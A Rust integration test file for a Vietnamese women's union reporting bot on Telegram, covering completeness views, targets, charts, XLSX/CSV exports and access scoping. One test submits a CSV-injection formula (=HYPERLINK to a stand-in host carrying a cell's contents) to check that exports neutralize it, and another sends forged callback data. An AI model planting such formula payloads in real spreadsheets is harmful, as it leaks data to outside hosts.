//! Activities, targets, and the admins' views: completeness rolled up the tree, targets worst
//! first, charts, exports — each limited to the admin's own subtree.

use std::time::Duration;

use chihoi::domain::calendar::Calendar;
use chihoi::domain::period::Period;
use chihoi::domain::role::Role;
use chihoi::storage::{org, views};
use chihoi_fakes::telegram::person::Person;
use chrono::{DateTime, TimeZone, Utc};
use chrono_tz::Asia::Ho_Chi_Minh;

use crate::both_backends;
use crate::helpers::*;

fn hanoi(m: u32, d: u32, h: u32) -> DateTime<Utc> {
    Ho_Chi_Minh
        .with_ymd_and_hms(2026, m, d, h, 0, 0)
        .unwrap()
        .with_timezone(&Utc)
}

async fn quick_report(p: &mut Person<'_>) {
    p.send("/baocao 2026-11").await.unwrap();
    answer_and_submit(p).await;
}

fn expected_under(prefix: &str) -> i64 {
    std::str::from_utf8(SAMPLE_ORG)
        .unwrap()
        .lines()
        .filter(|l| {
            let f: Vec<&str> = l.split(',').collect();
            (f[0] == prefix || f[0].starts_with(&format!("{prefix}-")))
                && (f[2] == "branch" || f[2] == "grassroots")
        })
        .count() as i64
}

async fn completeness_rolls_up_across_levels_and_stays_in_her_subtree(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut lan = app
        .joined(701, "Nguyễn Thị Lan", BRANCH, Role::BranchHead)
        .await;
    let mut hanh = app
        .joined(702, "Đỗ Thị Hạnh", OTHER_BRANCH, Role::BranchHead)
        .await;
    let mut hang = app
        .joined(703, "Vũ Thị Hằng", DISTRICT, Role::DistrictAdmin)
        .await;
    let mut nga = app
        .joined(704, "Bùi Thị Nga", "TB-TP", Role::DistrictAdmin)
        .await;
    let mut mai = app.joined(705, "Phạm Thị Mai", BRANCH, Role::Member).await;
    // One branch on time, one late, the rest of the commune never.
    quick_report(&mut lan).await;
    app.set_now(hanoi(12, 2, 9));
    quick_report(&mut hanh).await;

    // The queries: by level and by child agree, and count units that never reported.
    let mut conn = app.store.acquire().await.unwrap();
    let nov = Period::new(2026, 11).unwrap();
    let cal = Calendar::default_for(Ho_Chi_Minh);
    let until = cal.deadline(nov).timestamp();
    let commune = org::unit_by_code(&mut conn, GRASSROOTS)
        .await
        .unwrap()
        .unwrap();
    let levels = views::completeness_by_level(&mut conn, &commune, nov, until)
        .await
        .unwrap();
    let branch = levels[&chihoi::domain::org::Level::Branch];
    assert_eq!((branch.on_time, branch.late, branch.missing), (1, 1, 2));
    assert_eq!(levels[&chihoi::domain::org::Level::Grassroots].missing, 1);
    let district = org::unit_by_code(&mut conn, DISTRICT)
        .await
        .unwrap()
        .unwrap();
    let by_child = views::completeness_by_child(&mut conn, &district, nov, until)
        .await
        .unwrap();
    let dhop = by_child
        .iter()
        .find(|(c, _)| *c == Some(commune.id))
        .unwrap()
        .1;
    assert_eq!((dhop.on_time, dhop.late, dhop.missing), (1, 1, 3));
    let total: i64 = by_child.iter().map(|(_, c)| c.expected()).sum();
    assert_eq!(total, expected_under(DISTRICT));
    let province = org::unit_by_code(&mut conn, PROVINCE)
        .await
        .unwrap()
        .unwrap();
    let all: i64 = views::completeness_by_level(&mut conn, &province, nov, until)
        .await
        .unwrap()
        .values()
        .map(|c| c.expected())
        .sum();
    assert_eq!(all, expected_under(PROVINCE));
    drop(conn);

    // In chat: the district admin's tree, one level at a time.
    hang.send("/tiendo").await.unwrap();
    let r = hang.tap("« Tháng trước").await.unwrap();
    let t = texts(&r);
    assert!(
        t.starts_with("📊 Tiến độ báo cáo tháng 11/2026 — Hội LHPN huyện Đông Hưng"),
        "{t}"
    );
    assert!(
        t.contains("Chi hội — ✅ Đúng hạn: 1 · 🕓 Chậm: 1 · ❌ Chưa nộp: "),
        "{t}"
    );
    assert!(
        t.contains("Hội LHPN xã Đông Hợp: ✅ 1 · 🕓 1 · ❌ 3"),
        "{t}"
    );
    let r = hang.tap("Hội LHPN xã Đông Hợp").await.unwrap();
    let t = texts(&r);
    assert!(t.contains("✅ Chi hội phụ nữ thôn Đồng Thanh"), "{t}");
    assert!(
        t.contains("🕓 Chi hội phụ nữ thôn Lạc Thành (nộp chậm)"),
        "{t}"
    );
    assert!(
        t.contains("❌ Chi hội phụ nữ thôn Hợp Long (chưa nộp)"),
        "{t}"
    );
    assert!(
        r.last()
            .unwrap()
            .button("🔔 Nhắc đơn vị chưa nộp")
            .is_some()
    );

    // Another district's admin cannot look in, whatever data her client sends.
    let msg = r.last().unwrap().clone();
    for forged in [
        format!("v:{}:2026-11", commune.id),
        format!("k:{}:2026", district.id),
        format!("g:c:{}:2026-11", district.id),
        format!("r:2026-11:{}", commune.id),
    ] {
        let got = nga.tap_data(msg.message_id, &forged).await.unwrap();
        assert!(got.is_empty(), "{forged} showed {}", texts(&got));
        let answer = app
            .api
            .calls("answerCallbackQuery")
            .last()
            .cloned()
            .unwrap();
        assert_eq!(
            answer["text"], "Việc này không thuộc quyền của chị.",
            "{forged}"
        );
    }
    // Members and branch heads have no views.
    let r = mai.send("/tiendo").await.unwrap();
    assert!(
        texts(&r).contains("Chỉ cán bộ Hội cơ sở và Hội cấp trên xem được"),
        "{}",
        texts(&r)
    );
    let r = lan.send("/chitieu").await.unwrap();
    assert!(
        texts(&r).contains("Chỉ cán bộ Hội cơ sở và Hội cấp trên xem được"),
        "{}",
        texts(&r)
    );
    app.shutdown().await;
}

async fn logged_activities_count_towards_targets_shown_worst_first(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut lan = app
        .joined(711, "Nguyễn Thị Lan", BRANCH, Role::BranchHead)
        .await;
    let mut hoa = app
        .joined(712, "Trần Thị Hoa", GRASSROOTS, Role::GrassrootsOfficer)
        .await;

    lan.send("/hoatdong").await.unwrap();
    lan.tap("Giúp hộ gia đình").await.unwrap();
    lan.tap("Giúp hộ đạt tiêu chí 5 không, 3 sạch")
        .await
        .unwrap();
    let r = lan.send("31/2").await.unwrap();
    assert!(texts(&r).contains("Ngày chưa đúng"), "{}", texts(&r));
    let r = lan.tap("Hôm nay").await.unwrap();
    assert!(texts(&r).contains("Bao nhiêu hộ?"), "{}", texts(&r));
    lan.send("2").await.unwrap();
    lan.send("Giúp hai hộ làm lại chuồng trại, thu gom rác 🌿")
        .await
        .unwrap();
    app.api.push_photo(&lan.user, "photo-abc", None);
    let r = lan.replies().await.unwrap();
    assert!(texts(&r).contains("đã nhận 1/5"), "{}", texts(&r));
    let r = lan.tap("✅ Xong").await.unwrap();
    let t = texts(&r);
    assert!(
        t.contains("• Ngày 15/11/2026") && t.contains("• 2 hộ") && t.contains("• 1 ảnh"),
        "{t}"
    );
    let r = lan.tap("✅ Lưu hoạt động").await.unwrap();
    assert!(
        texts(&r).contains("Đã ghi hoạt động của Chi hội")
            && texts(&r).contains(": Giúp hộ đạt tiêu chí 5 không, 3 sạch."),
        "{}",
        texts(&r)
    );
    let (amount, grassroots): (i64, i64) =
        sqlx::query_as("SELECT amount, grassroots_id FROM activities")
            .fetch_one(app.store.pool())
            .await
            .unwrap();
    let (commune,): (i64,) = sqlx::query_as("SELECT id FROM units WHERE code = $1")
        .bind(GRASSROOTS)
        .fetch_one(app.store.pool())
        .await
        .unwrap();
    assert_eq!((amount, grassroots), (2, commune));
    assert_eq!(app.count("SELECT COUNT(*) FROM activity_photos").await, 1);
    // Two policy activities by the commune itself, and its membership figures.
    hoa.send("/hoatdong").await.unwrap();
    hoa.tap("Giám sát, góp ý, đối thoại").await.unwrap();
    hoa.tap("Giám sát thực hiện chính sách").await.unwrap();
    hoa.tap("Hôm qua").await.unwrap();
    hoa.send("1").await.unwrap();
    hoa.tap("Bỏ qua").await.unwrap();
    let r = hoa.tap("✅ Xong").await.unwrap();
    // Supervisions are counted, not "times" of anything; no photo reads as such.
    let t = texts(&r);
    assert!(
        t.contains("• Số lượng: 1") && t.contains("• Không có ảnh"),
        "{t}"
    );
    hoa.tap("✅ Lưu hoạt động").await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let stats = dir.path().join("so-lieu.csv");
    std::fs::write(
        &stats,
        format!("code,year,women_18plus,members\n{GRASSROOTS},2026,1000,700\n"),
    )
    .unwrap();
    let config = chihoi::config::Config::from_lookup(|_| None).unwrap();
    assert_eq!(
        chihoi::app::import_stats(&app.store, &config, &stats, app.now())
            .await
            .unwrap(),
        1
    );

    let r = hoa.send("/chitieu").await.unwrap();
    let t = texts(&r);
    assert!(
        t.starts_with("🎯 Chỉ tiêu năm 2026 — Hội LHPN xã Đông Hợp"),
        "{t}"
    );
    // One of the commune's four branches helped two households: 25 %.
    assert!(
        t.contains(
            "❗ Chỉ tiêu 4: Mỗi chi hội giúp 2 hộ đạt tiêu chí 5K3S / 5C3S — đạt 25% (mục tiêu 100%; 1/4 chi hội)"
        ),
        "{t}"
    );
    // Supervision without a draft comment is not enough for target 7; 70 % members is.
    assert!(
        t.contains(
            "❗ Chỉ tiêu 7: Giám sát ít nhất 1 chính sách và góp ý ít nhất 1 dự thảo — đạt 0% (mục tiêu 100%; 0/1 cơ sở)"
        ),
        "{t}"
    );
    assert!(
        t.contains(
            "✅ Chỉ tiêu 9: Tập hợp ≥ 65% phụ nữ từ 18 tuổi làm hội viên — đạt 100% (mục tiêu 100%; 1/1 cơ sở)"
        ),
        "{t}"
    );
    let lines: Vec<&str> = t.lines().skip(1).collect();
    let pos = |needle: &str| lines.iter().position(|l| l.contains(needle)).unwrap();
    let households = pos("Mỗi chi hội giúp 2 hộ");
    assert!(
        pos("Chỉ tiêu 7: Giám sát") < households && households < pos("Tập hợp ≥ 65%"),
        "worst first: {t}"
    );
    // What the icons mean, once, under the list.
    assert!(
        t.contains("✅ đã đạt · ⚠️ gần đạt (từ 70% mục tiêu) · ❗ còn xa · ▫️ chưa có số liệu"),
        "{t}"
    );
    // Both activities in the export's activities sheet: the date as logged, the type's name,
    // the number, the description with its emoji, and her one photo counted.
    let scope = chihoi::export::Scope::new(
        &app.store,
        &app.calendars(),
        Some(GRASSROOTS),
        "2026".parse().unwrap(),
        chihoi::i18n::Lang::Vi,
        app.now(),
    )
    .await
    .unwrap();
    let sheet = chihoi::export::table(&scope, chihoi::export::Sheet::Activities)
        .await
        .unwrap();
    assert_eq!(sheet.rows.len(), 2, "{:?}", sheet.rows);
    let lan_row = sheet
        .rows
        .iter()
        .find(|r| r[0] == BRANCH)
        .expect("the branch's activity");
    assert_eq!(lan_row[4], "2");
    assert_eq!(
        lan_row[6],
        "Giúp hai hộ làm lại chuồng trại, thu gom rác 🌿"
    );
    assert_eq!(lan_row[7], "1");
    assert!(lan_row[2].starts_with("2026-11-"), "{lan_row:?}");
    app.shutdown().await;
}

async fn charts_and_exports_arrive_as_files_that_open(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut lan = app
        .joined(721, "Nguyễn Thị Lan", BRANCH, Role::BranchHead)
        .await;
    let mut hoa = app
        .joined(722, "Trần Thị Hoa", GRASSROOTS, Role::GrassrootsOfficer)
        .await;
    let mut mai = app.joined(723, "Phạm Thị Mai", BRANCH, Role::Member).await;
    mai.send("/ykien").await.unwrap();
    mai.send("Xin thêm đèn đường ở xóm Bắc").await.unwrap();
    mai.tap("Gửi ẩn danh").await.unwrap();
    quick_report(&mut lan).await;

    // A chart of the commune's completeness: a real PNG of sensible size.
    hoa.send("/tiendo").await.unwrap();
    hoa.tap("📈 Biểu đồ").await.unwrap();
    let r = hoa
        .wait_for("the chart", |m| m.photo.is_some())
        .await
        .unwrap();
    let photo = r.iter().find_map(|m| m.photo.clone()).expect("a photo");
    assert!(photo.bytes.starts_with(b"\x89PNG\r\n\x1a\n"));
    let decoder = png::Decoder::new(std::io::Cursor::new(&photo.bytes));
    let reader = decoder.read_info().unwrap();
    let info = reader.info();
    assert_eq!(info.width, 900);
    assert!(
        (150..=1600).contains(&info.height),
        "height {}",
        info.height
    );
    assert!(
        photo
            .caption
            .unwrap_or_default()
            .contains("Tiến độ báo cáo tháng 11/2026")
    );

    // The year's export, from the chat, as XLSX: every sheet, the right rows.
    hoa.send("/xuat").await.unwrap();
    let r = hoa.tap("Cả năm 2026").await.unwrap();
    assert!(
        texts(&r).contains("Cả năm 2026 — chị muốn nhận tệp loại nào?"),
        "{}",
        texts(&r)
    );
    hoa.tap("Bảng tính Excel").await.unwrap();
    let r = hoa
        .wait_for("the export", |m| m.document.is_some())
        .await
        .unwrap();
    let doc = r
        .iter()
        .find_map(|m| m.document.clone())
        .expect("a document");
    assert_eq!(doc.file_name, "bao-cao-TB-DH-DHOP-2026.xlsx");
    let caption = doc.caption.clone().unwrap_or_default();
    assert!(
        caption.starts_with("📥 Cả năm 2026 — Hội LHPN xã Đông Hợp: ")
            && caption.ends_with(" báo cáo tháng."),
        "{caption}"
    );
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(doc.bytes)).unwrap();
    let names = book.sheet_names();
    for sheet in [
        "Báo cáo tháng",
        "Vụ việc",
        "Đề xuất",
        "Ý kiến hội viên",
        "Hoạt động",
        "Tiến độ báo cáo",
        "Chỉ tiêu",
    ] {
        assert!(
            names.iter().any(|n| n == sheet),
            "no sheet {sheet}: {names:?}"
        );
    }
    let reports = book.worksheet_range("Báo cáo tháng").unwrap();
    assert_eq!(reports.height(), 2);
    assert_eq!(reports.get_value((1, 0)).unwrap().to_string(), BRANCH);
    // The unit's whole path, province first; the submission time as a real Excel date-time
    // (sortable and filterable), revision as a number.
    let path = reports.get_value((1, 1)).unwrap().to_string();
    assert!(
        path == "Hội LHPN tỉnh Thái Bình › Hội LHPN huyện Đông Hưng › Hội LHPN xã Đông Hợp › Chi hội phụ nữ thôn Đồng Thanh",
        "{path}"
    );
    match reports.get_value((1, 4)).unwrap() {
        calamine::Data::DateTime(t) => assert!(t.is_datetime(), "{t:?}"),
        other => panic!("submitted-at is not a date-time: {other:?}"),
    }
    assert_eq!(reports.get_value((1, 6)), Some(&calamine::Data::Float(1.0)));
    let opinions = book.worksheet_range("Ý kiến hội viên").unwrap();
    assert_eq!(opinions.get_value((1, 4)).unwrap().to_string(), "ẩn danh");
    assert_eq!(
        opinions.get_value((1, 5)).unwrap().to_string(),
        "Xin thêm đèn đường ở xóm Bắc"
    );
    let progress = book.worksheet_range("Tiến độ báo cáo").unwrap();
    // Twelve months for the commune: its own line once (it is the root and the only
    // grassroots union in it).
    assert_eq!(progress.height(), 1 + 12);
    let nov = (1..progress.height())
        .find(|r| *progress.get_value((*r as u32, 2)).unwrap() == "2026-11")
        .unwrap() as u32;
    assert_eq!(progress.get_value((nov, 3)).unwrap().to_string(), "5");
    assert_eq!(progress.get_value((nov, 4)).unwrap().to_string(), "1");
    // The on-time rate is a number (1 of 5 on time), not text.
    assert_eq!(
        progress.get_value((nov, 7)),
        Some(&calamine::Data::Float(20.0))
    );
    let targets = book.worksheet_range("Chỉ tiêu").unwrap();
    assert!(targets.height() > 11, "{}", targets.height());

    // CSV from the command line, one sheet: the opinions.
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("y-kien.csv");
    let config = chihoi::config::Config::from_lookup(|_| None).unwrap();
    let n = chihoi::app::export_reports(
        &app.store,
        &config,
        "2026-H2".parse().unwrap(),
        Some(DISTRICT),
        chihoi::export::ExportFormat::Csv,
        chihoi::export::Sheet::Opinions,
        chihoi::i18n::Lang::En,
        &out,
    )
    .await
    .unwrap();
    assert_eq!(n, 1);
    let csv = std::fs::read_to_string(&out).unwrap();
    assert!(
        csv.starts_with("\u{feff}Unit code,Unit,Period,Sent at,Submitted by,Opinion"),
        "{csv}"
    );
    assert!(
        csv.contains("anonymous,Xin thêm đèn đường ở xóm Bắc"),
        "{csv}"
    );
    app.shutdown().await;
}

async fn an_export_too_large_to_send_is_explained_instead(backend: Backend) {
    let mut app = TestApp::spawn(backend).await;
    // A limit any workbook exceeds, as Telegram's 50 MB is exceeded by a province-year.
    app.delivery.max_upload_bytes = 2_000;
    app.restart_bot().await;
    let mut hoa = app
        .joined(731, "Trần Thị Hoa", GRASSROOTS, Role::GrassrootsOfficer)
        .await;
    hoa.send("/xuat").await.unwrap();
    hoa.tap("Cả năm 2026").await.unwrap();
    hoa.tap("Bảng tính Excel").await.unwrap();
    let r = hoa
        .wait_for("the explanation", |m| {
            m.text
                .as_deref()
                .is_some_and(|t| t.contains("tệp báo cáo nặng"))
        })
        .await
        .unwrap();
    assert!(r.iter().all(|m| m.document.is_none()), "no file is sent");
    let all = texts(&r);
    assert!(
        all.contains("Cả năm 2026 — Hội LHPN xã Đông Hợp: tệp báo cáo nặng")
            && all.contains("quá giới hạn 2 KB gửi qua tin nhắn")
            && all.contains("Chị thử xuất một tháng"),
        "{all}"
    );
    // Its size as made, over the limit.
    let size: u64 = all
        .split("tệp báo cáo nặng ")
        .nth(1)
        .and_then(|rest| rest.split(" KB,").next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no size in KB: {all}"));
    assert!(size > 2, "{all}");
    // Nothing is left failing in the outbox.
    let dead: (i64,) = sqlx::query_as("SELECT COUNT(*) FROM outbox WHERE status = 'dead'")
        .fetch_one(app.store.pool())
        .await
        .unwrap();
    assert_eq!(dead.0, 0);
    app.shutdown().await;
}

async fn a_formula_typed_in_chat_reaches_the_csv_as_text(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut mai = app.joined(732, "Phạm Thị Mai", BRANCH, Role::Member).await;
    mai.send("/ykien").await.unwrap();
    mai.send("=HYPERLINK(\"http://x.example/?\"&A2,\"Xem\")")
        .await
        .unwrap();
    mai.tap("Gửi ẩn danh").await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("y-kien.csv");
    let config = chihoi::config::Config::from_lookup(|_| None).unwrap();
    let n = chihoi::app::export_reports(
        &app.store,
        &config,
        "2026-11".parse().unwrap(),
        None,
        chihoi::export::ExportFormat::Csv,
        chihoi::export::Sheet::Opinions,
        chihoi::i18n::Lang::Vi,
        &out,
    )
    .await
    .unwrap();
    assert_eq!(n, 1);
    let bytes = std::fs::read(&out).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
    let row = reader.records().next().unwrap().unwrap();
    let cell = row.iter().next_back().unwrap();
    assert_eq!(cell, "'=HYPERLINK(\"http://x.example/?\"&A2,\"Xem\")");
    app.shutdown().await;
}

async fn text_typed_decomposed_is_stored_composed(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut mai = app.joined(733, "Phạm Thị Mai", BRANCH, Role::Member).await;
    mai.send("/ykien").await.unwrap();
    // "Đường làng ngập" as Unikey's "Unicode tổ hợp" sends it: base letters and combining marks.
    mai.send("\u{110}u\u{31b}o\u{31b}\u{300}ng la\u{300}ng nga\u{302}\u{323}p")
        .await
        .unwrap();
    mai.tap("Gửi ẩn danh").await.unwrap();
    let (body,): (String,) = sqlx::query_as("SELECT body FROM opinions")
        .fetch_one(app.store.pool())
        .await
        .unwrap();
    assert_eq!(body, "Đường làng ngập");
    app.shutdown().await;
}

/// A logged activity does not make her wait for the target evaluation: it is queued with the
/// activity, worked off in the background, coalesced per union, and done before anyone reads.
async fn targets_are_re_evaluated_off_the_reply_path(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut lan = app
        .joined(721, "Nguyễn Thị Lan", BRANCH, Role::BranchHead)
        .await;
    let achieved = "SELECT CAST(COALESCE(SUM(achieved), 0) AS BIGINT) FROM target_counts";
    let before = app.count(achieved).await;
    for _ in 0..2 {
        lan.send("/hoatdong").await.unwrap();
        lan.tap("Giúp hộ gia đình").await.unwrap();
        lan.tap("Giúp hộ đạt tiêu chí 5 không, 3 sạch")
            .await
            .unwrap();
        lan.tap("Hôm nay").await.unwrap();
        lan.send("2").await.unwrap();
        lan.tap("Bỏ qua").await.unwrap();
        lan.tap("✅ Xong").await.unwrap();
        let r = lan.tap("✅ Lưu hoạt động").await.unwrap();
        assert!(texts(&r).contains("Đã ghi hoạt động"), "{}", texts(&r));
    }
    assert_eq!(app.count("SELECT COUNT(*) FROM target_refresh").await, 2);
    assert_eq!(
        app.count(achieved).await,
        before,
        "not evaluated while she waited"
    );

    // The background pass does both at once, for their one union.
    let done = chihoi::targets::work_off(&app.store, &app.calendars(), app.now())
        .await
        .unwrap();
    assert_eq!(done, 1);
    assert_eq!(app.count("SELECT COUNT(*) FROM target_refresh").await, 0);
    assert!(app.count(achieved).await > before);
    assert_eq!(
        chihoi::targets::work_off(&app.store, &app.calendars(), app.now())
            .await
            .unwrap(),
        0
    );
    app.shutdown().await;
}

async fn a_slow_export_is_made_aside_while_everyone_is_answered_and_is_sent_once(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut lan = app
        .joined(741, "Nguyễn Thị Lan", BRANCH, Role::BranchHead)
        .await;
    let mut hoa = app
        .joined(742, "Trần Thị Hoa", GRASSROOTS, Role::GrassrootsOfficer)
        .await;
    let mut thu = app
        .joined(743, "Lê Thị Thu", OTHER_BRANCH, Role::BranchHead)
        .await;
    quick_report(&mut lan).await;
    // Her file is stuck on its way to Telegram, as a province's year on a slow link.
    app.api.hold("sendDocument");
    hoa.send("/xuat").await.unwrap();
    hoa.tap("Cả năm 2026").await.unwrap();
    let r = hoa.tap("Bảng tính Excel").await.unwrap();
    assert!(texts(&r).contains("Đang chuẩn bị tệp"), "{}", texts(&r));
    app.api
        .wait_for_calls("sendDocument", 1, Duration::from_secs(15))
        .await
        .unwrap();
    // Meanwhile everybody is answered at once, she too.
    thu.timeout = Duration::from_secs(3);
    hoa.timeout = Duration::from_secs(3);
    let r = thu.send("/baocao").await.unwrap();
    assert!(
        r.last().is_some_and(|m| !m.buttons.is_empty()),
        "{}",
        texts(&r)
    );
    let r = hoa.send("/tiendo").await.unwrap();
    assert!(texts(&r).contains("Hội LHPN xã Đông Hợp"), "{}", texts(&r));
    // A second file while the first is on its way is declined, not made beside it.
    hoa.send("/xuat").await.unwrap();
    hoa.tap("Cả năm 2026").await.unwrap();
    let r = hoa.tap("Tệp CSV (cho máy tính)").await.unwrap();
    assert!(
        texts(&r).contains("vẫn đang được chuẩn bị"),
        "{}",
        texts(&r)
    );
    // Minutes later (past a message's lease) it is still the one upload, not a second build.
    app.advance(chrono::Duration::minutes(3));
    tokio::time::sleep(Duration::from_millis(2500)).await;
    assert_eq!(app.api.calls("sendDocument").len(), 1);
    hoa.timeout = Duration::from_secs(15);
    app.api.release("sendDocument");
    let r = hoa
        .wait_for("the export", |m| m.document.is_some())
        .await
        .unwrap();
    let doc = r.iter().find_map(|m| m.document.clone()).unwrap();
    assert_eq!(doc.file_name, "bao-cao-TB-DH-DHOP-2026.xlsx");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(app.api.calls("sendDocument").len(), 1);
    let docs = hoa.inbox().iter().filter(|m| m.document.is_some()).count();
    assert_eq!(docs, 1);
    app.shutdown().await;
}

both_backends!(
    a_slow_export_is_made_aside_while_everyone_is_answered_and_is_sent_once,
    targets_are_re_evaluated_off_the_reply_path,
    text_typed_decomposed_is_stored_composed,
    a_formula_typed_in_chat_reaches_the_csv_as_text,
    completeness_rolls_up_across_levels_and_stays_in_her_subtree,
    logged_activities_count_towards_targets_shown_worst_first,
    charts_and_exports_arrive_as_files_that_open,
    an_export_too_large_to_send_is_explained_instead,
);

/// Communes and branches named so that byte order, id order and Vietnamese order all differ:
/// in Vietnamese An < Ă < Â < B < D < Đ, and "Đ" sorts right after "D", not after "Z".
const VIETNAMESE_NAMED: &str = "\
TB-DH-X1,TB-DH,grassroots,Hội LHPN xã Đông Xuân
TB-DH-X2,TB-DH,grassroots,Hội LHPN xã Zương
TB-DH-X3,TB-DH,grassroots,Hội LHPN xã Ân Thi
TB-DH-X4,TB-DH,grassroots,Hội LHPN xã Dương Phúc
TB-DH-X5,TB-DH,grassroots,Hội LHPN xã An Bình
TB-DH-X4-B1,TB-DH-X4,branch,Chi hội phụ nữ thôn Đoài
TB-DH-X4-B2,TB-DH-X4,branch,Chi hội phụ nữ thôn Ấp Mới
TB-DH-X4-B3,TB-DH-X4,branch,Chi hội phụ nữ thôn Bắc
";

async fn units_are_listed_in_vietnamese_order_in_views_and_exports(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut org = SAMPLE_ORG.to_vec();
    org.extend_from_slice(VIETNAMESE_NAMED.as_bytes());
    chihoi::app::import_org_bytes(&app.store, &org, app.now())
        .await
        .unwrap();
    let communes = [
        "xã An Bình",
        "xã Ân Thi",
        "xã Dương Phúc",
        "xã Đông Xuân",
        "xã Zương",
    ];
    let in_order = |text: &str, names: &[&str]| {
        let at: Vec<usize> = names
            .iter()
            .map(|n| text.find(n).unwrap_or_else(|| panic!("{n} not in {text}")))
            .collect();
        assert!(at.is_sorted(), "{names:?} out of order in:\n{text}");
    };

    // /tiendo: the district's communes, and the drill-down buttons.
    let mut hang = app
        .joined(711, "Vũ Thị Hằng", DISTRICT, Role::DistrictAdmin)
        .await;
    let r = hang.send("/tiendo").await.unwrap();
    in_order(&texts(&r), &communes);

    // The branches report, so that the export's reports sheet lists them.
    for (i, code) in ["TB-DH-X4-B1", "TB-DH-X4-B2", "TB-DH-X4-B3"]
        .into_iter()
        .enumerate()
    {
        let mut head = app
            .joined(720 + i as i64, "Chi hội trưởng", code, Role::BranchHead)
            .await;
        quick_report(&mut head).await;
    }
    let scope = chihoi::export::Scope::new(
        &app.store,
        &app.calendars(),
        Some(DISTRICT),
        "2026-11".parse().unwrap(),
        chihoi::i18n::Lang::Vi,
        app.now(),
    )
    .await
    .unwrap();
    let paths = |sheet: &chihoi::export::Table| {
        sheet
            .rows
            .iter()
            .map(|r| r[1].as_str())
            .collect::<Vec<_>>()
            .join("\n")
    };
    let completeness = chihoi::export::table(&scope, chihoi::export::Sheet::Completeness)
        .await
        .unwrap();
    in_order(&paths(&completeness), &communes);
    let reports = chihoi::export::table(&scope, chihoi::export::Sheet::Reports)
        .await
        .unwrap();
    in_order(&paths(&reports), &["thôn Ấp Mới", "thôn Bắc", "thôn Đoài"]);
    // Two incidents on thôn Bắc's report, stored in reverse order of position: the sheet
    // numbers them by position.
    let (report,): (i64,) = sqlx::query_as(
        "SELECT r.id FROM reports r JOIN units u ON u.id = r.unit_id WHERE u.code = 'TB-DH-X4-B3'",
    )
    .fetch_one(app.store.pool())
    .await
    .unwrap();
    for (position, description) in [(1, "Vụ thứ hai"), (0, "Vụ thứ nhất")] {
        sqlx::query(
            "INSERT INTO incidents (report_id, position, field, severity, people, description)
             VALUES ($1, $2, 'land_clearance', 'serious', 12, $3)",
        )
        .bind(report)
        .bind(position)
        .bind(description)
        .execute(app.store.pool())
        .await
        .unwrap();
    }
    sqlx::query(
        "UPDATE reports SET proposals = 'Đề nghị hỗ trợ vốn vay'
         WHERE unit_id IN (SELECT id FROM units WHERE code LIKE 'TB-DH-X4-B%')",
    )
    .execute(app.store.pool())
    .await
    .unwrap();
    let reports = chihoi::export::table(&scope, chihoi::export::Sheet::Reports)
        .await
        .unwrap();
    let bac = reports.rows.iter().find(|r| r[0] == "TB-DH-X4-B3").unwrap();
    assert_eq!(bac[13], "2");
    assert!(
        bac[14].starts_with("1. ") && bac[14].contains("\n2. "),
        "{}",
        bac[14]
    );
    assert!(
        bac[14].find("Vụ thứ nhất").unwrap() < bac[14].find("Vụ thứ hai").unwrap(),
        "{}",
        bac[14]
    );
    // Read a unit or two at a time, the rows are the same and in the same order.
    for units in [1, 2] {
        for sheet in [
            chihoi::export::Sheet::Reports,
            chihoi::export::Sheet::Incidents,
            chihoi::export::Sheet::Proposals,
        ] {
            let chunked = chihoi::export::table(&scope.clone().in_chunks_of(units), sheet)
                .await
                .unwrap();
            let whole = chihoi::export::table(&scope, sheet).await.unwrap();
            assert!(!whole.rows.is_empty(), "{sheet:?}");
            assert_eq!(chunked, whole, "{sheet:?} in chunks of {units}");
        }
    }
    // And as CSV, which writes the same rows.
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("reports.csv");
    chihoi::export::export_to_file(
        &scope,
        chihoi::export::ExportFormat::Csv,
        chihoi::export::Sheet::Reports,
        &out,
    )
    .await
    .unwrap();
    in_order(
        &std::fs::read_to_string(&out).unwrap(),
        &["thôn Ấp Mới", "thôn Bắc", "thôn Đoài"],
    );
    app.shutdown().await;
}

both_backends!(units_are_listed_in_vietnamese_order_in_views_and_exports);
